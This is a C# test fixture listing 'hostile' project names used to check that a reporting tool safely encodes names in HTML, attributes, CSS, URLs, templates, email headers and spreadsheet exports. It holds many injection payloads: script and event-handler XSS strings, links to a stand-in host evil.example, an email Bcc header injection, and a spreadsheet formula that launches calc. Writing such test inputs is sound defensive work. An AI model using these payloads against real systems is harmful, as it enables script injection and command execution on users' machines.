namespace Daybook.Tests.Reports;

/// <summary>Names nobody would give a project, each an attack on one place where a name may end up.</summary>
internal static class Hostile
{
    public static IReadOnlyList<string> Names { get; } =
    [
        // HTML
        "<script>alert(1)</script>", "</td></tr></table><h1>x</h1>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//evil.example>",
        "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>", "</title><script>x</script>", "</style><script>x</script>", "<!-- ", "-->", "<![CDATA[x]]>",
        "<meta http-equiv=refresh content=0>", "<base href=//evil.example>", "<form action=//evil.example><input>", "<link rel=stylesheet href=//evil.example>",
        "<body onload=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>x</script>\">", "&lt;script&gt;x&lt;/script&gt;", "&#60;b&#62;", "<b", "<\0b>", "＜script＞x＜/script＞",
        // attributes
        "\" onmouseover=\"alert(1)", "' onclick='alert(1)", "\"><b>", "'><b>", "` onload=`x", "\" style=\"position:fixed", "x\" class=\"card", "\\\"><i>", "=\"=", "a=b c=d",
        // CSS
        "width:999999px", "100%;background:url(//evil.example)", "expression(alert(1))", "*/ body{display:none} /*", "@import '//evil.example'", "}body{color:red}",
        // URLs
        "javascript:alert(1)", "data:text/html,<script>x</script>", "//evil.example/x.png", "https://evil.example/?q=<b>", "vbscript:x", "mailto:a@evil.example?bcc=b",
        // template syntax
        "{{Total}}", "{{{Total}}}", "{{#each Days}}x{{/each}}", "{{> head}}", "{{lookup this 'Title'}}", "{{", "}}", "{{!-- x --}}", "{% x %}", "${x}", "@Model", "<%= x %>",
        // control, direction and odd characters
        "a\r\nBcc: evil@evil.example", "\r\n\r\n<b>body</b>", "a\u0000b", "\u001b[31mred\u001b[0m", "\u202egnp.exe", "\u2066hidden\u2069", "\u2028x\u2029", "\ufeffx", "a\u200bb",
        "\ud800", "\udc00x", "Z" + new string('\u0301', 300), "\u0007\u0008\u007f", "", " ", "\u00a0", ".", "\r\n.\r\n", "From me", "--=_", "=_x", "=?utf-8?B?eA==?=",
        // spreadsheets
        "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", " =1", ";=1", "'=1", "＝1", "\u200b=1", "\u00a0=1", "\"=1\"",
        // sizes
        new string('W', 5000), string.Concat(Enumerable.Repeat("<&\">", 2000)), string.Concat(Enumerable.Repeat("👨‍👩‍👧‍👦", 100)), "total", "unattributed", "8 others",
    ];
}
